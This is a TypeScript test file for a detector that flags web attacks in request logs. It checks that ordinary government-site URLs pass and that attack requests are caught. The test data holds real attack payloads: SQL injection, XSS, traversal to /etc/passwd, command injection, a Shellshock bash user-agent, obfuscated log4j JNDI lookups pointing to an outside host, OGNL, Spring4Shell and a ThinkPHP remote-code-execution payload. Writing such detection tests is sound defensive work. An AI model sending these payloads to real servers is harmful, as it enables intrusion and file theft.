import test from 'ava';
import { inspectRequest, inspectRequestFully, WEB_CATEGORIES, type WebCategory } from '../../../src/detect/web/index.js';
import { loadBenign } from '../../helpers/web-corpus.js';
import { parsers } from '../../../src/parsers/loglines.js';

const cats = (target: string, userAgent?: string): WebCategory[] => inspectRequest({ target, userAgent }).findings.map((f) => f.category);

test('contract: every category is reachable and a plain request has no finding', (t) => {
  t.deepEqual(cats('/xxgk/zcwj/index.html?page=2'), []);
  t.deepEqual(cats("/news.php?id=1'%20or%20'1'='1"), ['sqli']);
  t.deepEqual(cats('/search?q=%3Csvg%2Fonload%3Dalert(1)%3E'), ['xss']);
  t.deepEqual(cats('/download.php?file=..%252f..%252f..%252fetc%252fpasswd'), ['path_traversal']);
  t.true(cats('/ping.php?ip=127.0.0.1%3Bcat%20/etc/passwd').includes('command_injection'));
  t.deepEqual(cats('/index.php?page=php://filter/convert.base64-encode/resource=index.php'), ['code_injection']);
  t.deepEqual(cats('/', 'sqlmap/1.10.6.60#dev (https://sqlmap.org)'), ['scanner']);
  t.is(WEB_CATEGORIES.length, 6);
});

test('transforms are recorded in order and the normalised form is decoded and folded', (t) => {
  const r = inspectRequest({ target: '/news.php?id=1%2527+UNION%2F**%2FSELECT+1,2' });
  t.true(r.transforms.includes('plus-space'));
  t.true(r.transforms.includes('percent-decode'));
  t.true(r.transforms.includes('percent-decode-nested'));
  t.true(r.transforms.includes('sql-comment'));
  t.is(r.normalised, "/news.php?id=1' union select 1,2");
});

test('ordinary requests of Java/PHP government sites raise nothing', (t) => {
  for (const target of [
    '/col/col1229/index.html;jsessionid=8F1A2B3C4D5E6F708192A3B4C5D6E7F8?uid=5123456&pageNum=3',
    '/module/web/jpage/dataproxy.jsp?startrecord=1&endrecord=45&perpage=15',
    '/login.php?redirect=https%3A%2F%2Fwww.example.gov.cn%2Findex.php%3Fid%3D3',
    '/list?sort=id&order=desc&view=list&dir=asc',
    '/search?q=Women%27s+Federation&page=2',
    '/search?q=1+or+2+%E5%B1%85%E5%AE%A4',
    '/api/list?data=eyJhcmVhQ29kZSI6ICI0NDAxMDUiLCAicGFnZSI6IDN9',
    '/static/pdfjs/web/viewer.html?file=../../../attach/0/3538860072604068074.pdf',
    '/bsfw/bszn/list?returl=..%2Findex.html',
    '/art/2025/3/8/art_1243_942074.html?from=singlemessage&isappinstalled=0',
    '/cas/login?service=https%3A%2F%2Fwww.example.gov.cn%2Fhdjl%2F&ticket=ST-1234-abcdEFGH-cas',
  ]) {
    const r = inspectRequest({ target, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36', referer: 'https://www.baidu.com/link?url=abc&eqid=123' });
    t.deepEqual(r.findings, [], target);
  }
});

test('header and framework attacks: Shellshock, log4j lookups (obfuscated), OGNL, Spring4Shell, ThinkPHP', (t) => {
  const find = (req: Parameters<typeof inspectRequest>[0]): string[] => inspectRequest(req).findings.map((f) => `${f.category}:${f.where}`);
  t.deepEqual(find({ target: '/', userAgent: '() { :;}; /bin/bash -c "id"' }), ['command_injection:user-agent']);
  t.deepEqual(find({ target: '/', userAgent: '${jndi:ldap://x.example/a}' }), ['code_injection:user-agent']);
  t.deepEqual(find({ target: '/?x=${${lower:j}ndi:${lower:l}dap://x/a}' }), ['code_injection:query:x']);
  t.deepEqual(find({ target: '/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}' }), ['code_injection:query:x']);
  t.deepEqual(find({ target: '/login.action', referer: '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}' }), ['code_injection:referer']);
  t.deepEqual(find({ target: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' }), ['code_injection:query-name']);
  t.true(find({ target: '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' }).includes('code_injection:query:s'));
});

test('the fast path gives the same answer as the full inspection (benign corpus and plain probes)', (t) => {
  const reqs = loadBenign().map((l) => {
    const p = parsers.nginx(l)!; // the agent's parser, as `gwsec detect --file` reads the line
    return { method: p.method, target: p.path ?? '', userAgent: p.userAgent, referer: p.referer };
  });
  reqs.push(
    { method: 'GET', target: '/etc/passwd', userAgent: 'x', referer: '-' },
    { method: 'GET', target: '/.git/config', userAgent: 'sqlmap/1.0', referer: '-' },
    { method: 'GET', target: '/ping?ip=whoami', userAgent: '() { :;}; id', referer: '-' },
    { method: 'GET', target: '/WEB-INF/web.xml?a=1', userAgent: 'Nikto', referer: '-' },
    { method: 'GET', target: '/x/0x2e0x2e0x2f0x2e0x2e0x2f', userAgent: 'x', referer: '-' },
  );
  let fast = 0;
  for (const r of reqs) {
    const a = inspectRequest(r);
    const b = inspectRequestFully(r);
    if (a.findings.length !== b.findings.length || a.normalised !== b.normalised) {
      t.fail(`${r.target}: fast ${JSON.stringify(a)} vs full ${JSON.stringify(b)}`);
      return;
    }
    t.deepEqual(a.findings.map((f) => f.category), b.findings.map((f) => f.category), r.target);
    if (/^[A-Za-z0-9_\-.,~/=&?]*$/.test(r.target)) fast++;
  }
  t.true(fast > 5000, `the fast path was exercised (${fast} plain targets)`);
});
